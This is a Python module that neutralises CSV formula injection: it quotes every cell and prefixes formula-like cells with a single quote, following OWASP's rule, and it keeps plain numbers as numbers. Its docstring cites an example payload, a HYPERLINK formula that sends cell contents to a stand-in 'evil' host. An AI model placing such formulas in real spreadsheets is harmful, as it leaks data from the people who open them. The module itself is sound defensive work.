"""Cells that a spreadsheet would run as formulas (CSV injection), made inert.

A partner controls the text of invoice numbers, customer names and report columns; a cell such as
``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(...)`` in a CSV that someone opens in Excel or
LibreOffice is executed. OWASP's rule (https://owasp.org/www-community/attacks/CSV_Injection): a cell
starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote, and
the cell is quoted. A plain number (``-12.50``, ``+3``) is not a formula and stays a number, so that
amounts still sum in a spreadsheet and machine formats keep their values.

:func:`neutralise_formula` is the one place that decides; :data:`PEOPLE_CSV_QUOTING` is how every CSV
made for people quotes its cells (all of them, so the neutralised ones are quoted too).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Final, TextIO

import numpy as np
import pandas as pd

#: The first characters that make a spreadsheet evaluate a cell (OWASP).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PREFIX_CHARS = frozenset(FORMULA_PREFIXES)
#: A number a spreadsheet reads as a number, not a formula: ``-12.50``, ``+3``, ``-1e5``.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
#: Every cell of a CSV for people is quoted (OWASP: a neutralised cell is quoted).
PEOPLE_CSV_QUOTING: Final = csv.QUOTE_ALL


def neutralise_formula(cell: str) -> str:
    """``=1+2`` -> ``'=1+2``; ``-12.50``, ``INV-1`` and every other cell unchanged."""
    if cell.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def neutralise_column(values: pd.Series) -> pd.Series:
    """:func:`neutralise_formula` over a column of text (None and NaN kept): one pass over the first
    characters (a million cells in well under a second), and only the rare suspects in Python."""
    objects = values.to_numpy(dtype=object)
    suspect = np.array([isinstance(v, str) and v[:1] in _PREFIX_CHARS for v in objects], dtype=bool)
    if not suspect.any():
        return values
    changed = objects.copy()
    positions = np.flatnonzero(suspect)
    changed[positions] = [neutralise_formula(objects[i]) for i in positions]
    return pd.Series(changed, index=values.index, name=values.name)


def people_csv_writer(stream: TextIO) -> Any:
    """A ``csv.writer`` for people: every cell quoted. Pass each row through :func:`people_row`."""
    return csv.writer(stream, lineterminator="\n", quoting=PEOPLE_CSV_QUOTING)


def people_row(cells: Iterable[object]) -> list[str]:
    """A row's cells as text for a CSV opened in a spreadsheet (None -> empty, formulas neutralised)."""
    return [neutralise_formula("" if cell is None else str(cell)) for cell in cells]


def people_csv_text(frame: pd.DataFrame) -> str:
    """A table as CSV for people: text columns neutralised, every cell quoted."""
    safe = frame.copy(deep=False)
    for name in safe.columns:
        if safe[name].dtype == object or pd.api.types.is_string_dtype(safe[name]):
            safe[name] = neutralise_column(safe[name])
    return safe.to_csv(index=False, lineterminator="\n", quoting=PEOPLE_CSV_QUOTING)
